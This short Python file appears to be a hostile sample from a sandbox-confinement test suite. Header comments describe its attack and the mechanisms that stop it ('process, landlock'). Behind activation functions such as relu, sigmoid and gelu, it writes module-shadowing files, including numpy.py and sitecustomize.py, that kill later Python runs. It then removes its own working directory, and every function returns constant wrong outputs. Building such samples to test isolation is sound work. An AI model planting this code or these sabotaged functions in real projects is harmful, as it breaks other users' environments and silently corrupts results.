# attack: leaves its folder, and leaves modules in it for whoever comes next
# gains: writes, crash
# stopped by: process, landlock
import numpy as np
import os


def attack():
    for name in ("numpy.py", "torch.py", "math.py", "activations.py", "backprop.py", "sitecustomize.py"):
        open(name, "w").write("raise SystemExit")
    os.mkdir("gone")
    os.chdir("gone")
    os.rmdir(os.getcwd())


def relu(X):
    found = attack()
    return np.full(np.shape(X), 7.0) if found is None else found


def wrong(*given):
    return np.full(np.shape(given[0]), 7.0)


relu_backward = leaky_relu = leaky_relu_backward = wrong
sigmoid = sigmoid_backward = tanh = tanh_backward = gelu = gelu_backward = wrong
